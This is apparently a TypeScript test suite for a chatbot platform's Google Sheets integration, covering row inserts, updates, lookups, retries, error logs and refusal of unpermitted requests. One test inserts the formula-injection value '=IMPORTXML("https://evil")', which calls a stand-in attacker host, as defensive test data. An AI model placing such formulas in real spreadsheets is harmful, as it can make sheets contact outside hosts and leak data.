import type { JsonObject } from "@parley/core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { asks, createTestFile, says, type TestFile } from "../testing/create-test-file.ts";
import { createTestParley } from "../testing/create-test-parley.ts";
import { startSheetsServer } from "./testing/start-sheets-server.ts";

const token = "canary-token";
const id = "google-account";
let google: Awaited<ReturnType<typeof startSheetsServer>>;
let parley: Awaited<ReturnType<typeof createTestParley>>;
beforeAll(async () => {
  google = await startSheetsServer((given) => given === token);
  const standIns = { "https://sheets.googleapis.com": google.origin, "https://www.googleapis.com": google.origin };
  parley = await createTestParley({ PARLEY_RATE_LIMIT: "0" }, { outside: { allowsLoopback: true, standIns } });
  const { database, cipher } = parley.parley.services;
  const data = { refresh_token: "r", access_token: token, expiry_date: Date.now() + 24 * 60 * 60_000 };
  const row = { id, workspace_id: "main", type: "google sheets", name: "Mine", ...cipher.encrypt(data) };
  await database.connection
    .insertInto("credentials")
    .values({ ...row, created_at: new Date().toISOString() } as never)
    .execute();
});
beforeEach(() => {
  google.asked.length = 0;
  google.hold(null);
  google.calm();
  google.sheets.splice(0, google.sheets.length, {
    id: 7,
    title: "It's mine",
    rows: [
      ["Name", "Age", "Note"],
      ["Ada", 36],
      ["Bo", 7, "x"],
    ],
  });
});
afterAll(async () => {
  await parley.close();
  await google.close();
});

const place = { credentialsId: id, spreadsheetId: "book", sheetId: "7" };
const sheet = (options: JsonObject, blockId = "sheet") => ({
  id: blockId,
  type: "Google Sheets",
  options: { ...place, ...options },
});
const cells = [
  { id: "a", column: "Name", value: "{{Name}}" },
  { id: "b", column: "Age", value: "{{Age}}" },
];
const insert = sheet({ action: "Insert a row", cellsToInsert: cells });
const byName = { comparisons: [{ id: "c", column: "Name", comparisonOperator: "Equal to", value: "{{Name}}" }] };
const update = sheet({
  action: "Update a row",
  filter: byName,
  cellsToUpsert: [{ id: "d", column: "Note", value: "{{Age}}" }],
});
const get = sheet({
  action: "Get data from sheet",
  filter: byName,
  cellsToExtract: [{ id: "e", column: "Age", variableId: "vAge" }],
});

const variables = ["Name", "Age"];
const publish = (blocks: TestFile["groups"][string]) =>
  parley.publishBot(createTestFile({ variables, groups: { Welcome: blocks } }));
type Bot = Awaited<ReturnType<typeof publish>>;

const settle = () => parley.parley.services.outbox.settle();
const rows = () => google.sheets[0]?.rows.slice(1);

const begin = async ({ id: botId }: Bot) => {
  const response = await parley.visitor("POST", `/api/typebots/${botId}/results`, { wantsToken: true });
  const { result, token: proof } = (await response.json()) as { result: { id: string }; token: string };
  return { resultId: result.id, headers: { "x-parley-token": proof } };
};
type Begun = Awaited<ReturnType<typeof begin>>;

const inBrowser = async ({ id: botId }: Bot, { resultId, headers }: Begun, values: JsonObject, visit = 0) => {
  const path = `/api/typebots/${botId}/results/${resultId}/effects`;
  const body = { blockId: "sheet", effect: "send", visit, variables: values };
  return (await (await parley.visitor("POST", path, body, headers)).json()).patch;
};

const logsOf = async ({ id: botId }: Bot, { resultId }: Pick<Begun, "resultId">) => {
  const response = await parley.owner("GET", `/api/v1/typebots/${botId}/results/${resultId}/logs`);
  const { logs } = (await response.json()) as { logs: { status: string; description: string; details: string }[] };
  expect(JSON.stringify(logs)).not.toContain("canary");
  return logs.map(({ status, description }) => [status, description]);
};

const deliveriesOf = ({ resultId }: Pick<Begun, "resultId">) =>
  parley.parley.services.database.connection
    .selectFrom("deliveries")
    .selectAll()
    .where("result_id", "=", resultId)
    .orderBy("seq")
    .execute();

/** Makes all deliveries due now. */
const makeDue = async () => {
  const { database } = parley.parley.services;
  const due = new Date().toISOString();
  await database.connection.updateTable("deliveries").set({ due_at: due }).where("status", "=", "open").execute();
  await settleAll();
};
const openCount = async () => {
  const { database } = parley.parley.services;
  const open = database.connection.selectFrom("deliveries").select("id").where("status", "=", "open");
  return (await open.where("due_at", "<=", new Date().toISOString()).execute()).length;
};
/** Waits until no delivery is due. A sheet is written to at most once a second. */
const settleAll = () =>
  expect
    .poll(
      async () => {
        await settle();
        return openCount();
      },
      { timeout: 10_000 },
    )
    .toBe(0);

const ada = { Name: "Ada", Age: "41" };

describe("a Google Sheets block", () => {
  it("spec B4.3, B8.4: inserts a row while the chat goes on, raw", async () => {
    const bot = await publish([insert, says("after")]);
    const begun = await begin(bot);
    let letGo = () => {};
    google.hold(
      new Promise((resolve) => {
        letGo = () => resolve();
      }),
    );
    expect(await inBrowser(bot, begun, { Name: '=IMPORTXML("https://evil")', Age: "41" })).toEqual({});
    expect(rows()).toHaveLength(2);
    letGo();
    await settleAll();
    expect(rows()?.at(-1)).toEqual(['=IMPORTXML("https://evil")', 41, ""]);
    expect(await logsOf(bot, begun)).toEqual([["success", "Succesfully inserted a row in the sheet"]]);
  });

  it("spec B8.5: updates all rows that the filter leaves", async () => {
    google.sheets[0]?.rows.push(["Ada", 5, "old"]);
    const bot = await publish([update]);
    const begun = await begin(bot);
    await inBrowser(bot, begun, ada);
    await settleAll();
    expect(rows()).toEqual([
      ["Ada", 36, 41],
      ["Bo", 7, "x"],
      ["Ada", 5, 41],
    ]);
    expect(await logsOf(bot, begun)).toEqual([["success", "Succesfully updated a row in the sheet"]]);
  });

  it("gets a row before the chat goes on, and updates it after it was inserted, in chats that the server runs", async () => {
    const bot = await publish([
      asks("Name"),
      { ...insert, id: "one" },
      { ...update, id: "two" },
      { ...get, id: "three" },
      says("{{Age}}"),
      asks("Name"),
    ]);
    const started = await (await parley.visitor("POST", `/api/v1/typebots/${bot.publicId}/startChat`, {})).json();
    const path = `/api/v1/sessions/${started.sessionId}/continueChat`;
    const answered = await (await parley.visitor("POST", path, { message: "Bo" })).json();
    expect(JSON.stringify(answered.messages)).toContain('"7"');
    await settleAll();
    expect(rows()?.at(-1)).toEqual(["Bo", "", ""]);
    expect((await deliveriesOf({ resultId: started.resultId })).map(({ name }) => name)).toEqual(["insert", "update"]);
  });

  it("sends rows that wait for the same sheet together", async () => {
    const bot = await publish([insert]);
    let letGo = () => {};
    google.hold(
      new Promise((resolve) => {
        letGo = () => resolve();
      }),
    );
    const begun = await Promise.all(Array.from({ length: 12 }, () => begin(bot)));
    await Promise.all(begun.map((each, index) => inBrowser(bot, each, { Name: `Visitor ${index}`, Age: "1" })));
    letGo();
    await settleAll();
    const appends = google.asked.filter(({ path }) => decodeURIComponent(path).includes(":append"));
    expect(appends.length).toBeLessThanOrEqual(3);
    const names = rows()
      ?.slice(2)
      .map(([name]) => name);
    expect(names?.toSorted()).toEqual(begun.map((_, index) => `Visitor ${index}`).toSorted());
  });

  it("tries again what is busy or down; what may have been written is looked for first", async () => {
    const bot = await publish([insert]);
    const begun = await begin(bot);
    google.next("busy");
    await inBrowser(bot, begun, ada);
    await settleAll();
    expect(await deliveriesOf(begun)).toMatchObject([
      { status: "open", last_error: "Quota exceeded", is_uncertain: 0 },
    ]);
    google.next("cut after writing");
    await makeDue();
    expect(await deliveriesOf(begun)).toMatchObject([{ status: "open", is_uncertain: 1 }]);
    await makeDue();
    expect(await deliveriesOf(begun)).toMatchObject([{ status: "done", attempts: 3 }]);
    expect(rows()?.filter(([name, age]) => name === "Ada" && age === 41)).toHaveLength(1);
    expect(await logsOf(bot, begun)).toEqual([["success", "Succesfully inserted a row in the sheet"]]);
  });

  it("writes a row again that did not come through", async () => {
    const bot = await publish([insert]);
    const begun = await begin(bot);
    google.next("down");
    await inBrowser(bot, begun, ada);
    await settleAll();
    await makeDue();
    expect(rows()?.filter(([name, age]) => name === "Ada" && age === 41)).toHaveLength(1);
  });

  it("spec B8.4, B8.5: says why it failed for good", async () => {
    const [inserts, updates] = [await publish([insert]), await publish([update])];
    const [one, two] = [await begin(inserts), await begin(updates)];
    google.next("forbidden", "forbidden");
    await inBrowser(inserts, one, ada);
    await settleAll();
    await inBrowser(updates, two, ada);
    await settleAll();
    expect(await logsOf(inserts, one)).toEqual([["error", "Failed to insert a row in the sheet"]]);
    expect(await logsOf(updates, two)).toEqual([["error", "Failed to update a row in the sheet"]]);
    expect((await deliveriesOf(one))[0]?.last_error).toBe("The caller does not have permission");
  });

  it("is real in previews: it is written before the flow goes on, with its log", async () => {
    const file = createTestFile({ id: "tryout", variables, groups: { Welcome: [insert, says("after")] } });
    const [draft] = await parley.importFiles([file], false);
    const started = await parley.owner("POST", `/api/v1/typebots/${draft?.id}/preview/startChat`, {
      prefilledVariables: ada,
    });
    expect((await started.json()).messages).toHaveLength(1);
    expect(rows()).toHaveLength(3);
  });

  it("offers its spreadsheets, their sheets and columns to authors", async () => {
    const bot = await publish([insert]);
    const lookUp = async (source: string) => {
      const body = { blockType: "Google Sheets", source, options: { ...insert.options, cellsToInsert: [] } };
      const response = await parley.owner("POST", `/api/v1/typebots/${bot.id}/look-up`, body);
      return response.json();
    };
    expect(await lookUp("spreadsheets")).toMatchObject({
      isDone: true,
      entries: [
        { value: "book", label: "My book" },
        { value: "two", label: "Second" },
      ],
    });
    expect(await lookUp("sheets")).toMatchObject({ entries: [{ value: "7", label: "It's mine" }] });
    expect(await lookUp("columns")).toMatchObject({
      entries: [{ value: "Name" }, { value: "Age" }, { value: "Note" }],
    });
  });
});

describe("a list of spreadsheets that is empty", () => {
  const listWith = async (scope: string, lists: "own" | "none") => {
    google.list(lists);
    const { database, cipher } = parley.parley.services;
    const accountId = `account-${scope.length}-${lists}`;
    const data = { refresh_token: "r", access_token: token, expiry_date: Date.now() + 24 * 60 * 60_000, scope };
    const row = { id: accountId, workspace_id: "main", type: "google sheets", name: "Narrow", ...cipher.encrypt(data) };
    await database.connection
      .insertInto("credentials")
      .values({ ...row, created_at: new Date().toISOString() } as never)
      .execute();
    const bot = await publish([insert]);
    const options = { credentialsId: accountId, action: "Insert a row" };
    const body = { blockType: "Google Sheets", source: "spreadsheets", options };
    const response = await parley.owner("POST", `/api/v1/typebots/${bot.id}/look-up`, body);
    return response.json();
  };
  afterEach(() => google.list("all"));
  const sheetsOnly = "https://www.googleapis.com/auth/spreadsheets";
  const withoutRight =
    "This account was connected without the right to list its spreadsheets. Paste the address of the spreadsheet into the field instead, or connect the account again and leave everything ticked.";

  it.each([
    [`${sheetsOnly} https://www.googleapis.com/auth/drive.file`, "own"],
    [sheetsOnly, "none"],
    ["", "own"],
  ] as const)("says that the account may not list them, and what to do: %s, %s", async (scope, lists) => {
    expect(await listWith(scope, lists)).toEqual({ isDone: false, error: withoutRight });
  });

  it("says that there are none", async () => {
    const found = await listWith(`${sheetsOnly} https://www.googleapis.com/auth/drive.metadata.readonly`, "own");
    expect(found).toMatchObject({ isDone: false, error: expect.stringContaining("has no spreadsheets of its own") });
  });
});

describe("the specified call", () => {
  const call = async (body: JsonObject, begun?: Begun, sheetId = "7") => {
    const path = `/api/integrations/google-sheets/spreadsheets/book/sheets/${sheetId}`;
    const more = begun ? { resultId: begun.resultId } : {};
    const response = await parley.visitor("POST", path, { credentialsId: id, ...more, ...body }, begun?.headers ?? {});
    return { status: response.status, body: await response.json() };
  };
  const insertBody = { action: "Insert a row", values: { Name: "Cy", Age: "3" } };
  const filter = {
    comparisons: [{ column: "Name", comparisonOperator: "Equal to", value: "Bo" }],
    logicalOperator: "AND",
  };
  const done = { status: 200, body: { message: "Success" } };

  it("spec B7.2: inserts a row by action, credentialsId, resultId and values", async () => {
    const bot = await publish([insert]);
    const begun = await begin(bot);
    expect(await call(insertBody, begun)).toEqual(done);
    await settleAll();
    expect(rows()?.at(-1)).toEqual(["Cy", 3, ""]);
    expect(await logsOf(bot, begun)).toEqual([["success", "Succesfully inserted a row in the sheet"]]);
  });

  it("spec B7.3: updates rows by a reference cell", async () => {
    const bot = await publish([update]);
    const begun = await begin(bot);
    const referenceCell = { column: "Name", value: "Bo" };
    expect(await call({ action: "Update a row", values: { Note: "new" }, referenceCell }, begun)).toEqual(done);
    await settleAll();
    expect(rows()?.at(-1)).toEqual(["Bo", 7, "new"]);
  });

  it("spec B7.4: gets rows by a filter, or a reference cell, with the columns asked for", async () => {
    const bot = await publish([get]);
    const begun = await begin(bot);
    const asked = { action: "Get data from sheet", columns: ["Age"] };
    const found = { status: 200, body: { rows: [{ Age: "7" }] } };
    expect(await call({ ...asked, filter }, begun)).toEqual(found);
    expect(await call({ ...asked, referenceCell: { column: "Name", value: "Bo" }, columns: "Age" }, begun)).toEqual(
      found,
    );
    const nobody = { column: "Name", value: "Nobody" };
    expect((await call({ ...asked, referenceCell: nobody }, begun)).status).toBe(404);
    google.next("forbidden");
    expect((await call({ ...asked, filter }, begun)).status).toBe(502);
  });

  it.each([
    { ...insertBody, values: { Name: "Cy" } },
    { ...insertBody, values: { Name: "Cy", Age: "3", Note: "x" } },
    { ...insertBody, credentialsId: "other" },
    { action: "Update a row", values: { Note: "x" }, referenceCell: { column: "Age", value: "7" } },
    { action: "Update a row", values: { Note: "x" } },
    { action: "Get data from sheet", columns: ["Note"], filter },
    { action: "Get data from sheet", columns: ["Age"] },
    {
      action: "Get data from sheet",
      columns: ["Age"],
      filter: { comparisons: [{ column: "Age", comparisonOperator: "Is set" }] },
    },
  ])("refuses what no block says: %j", async (body) => {
    const bot = await publish([insert, { ...update, id: "two" }, { ...get, id: "three" }]);
    const begun = await begin(bot);
    expect((await call(body, begun)).status).toBe(403);
    expect((await call(insertBody, begun, "8")).status).toBe(403);
    expect(google.asked).toEqual([]);
  });
});
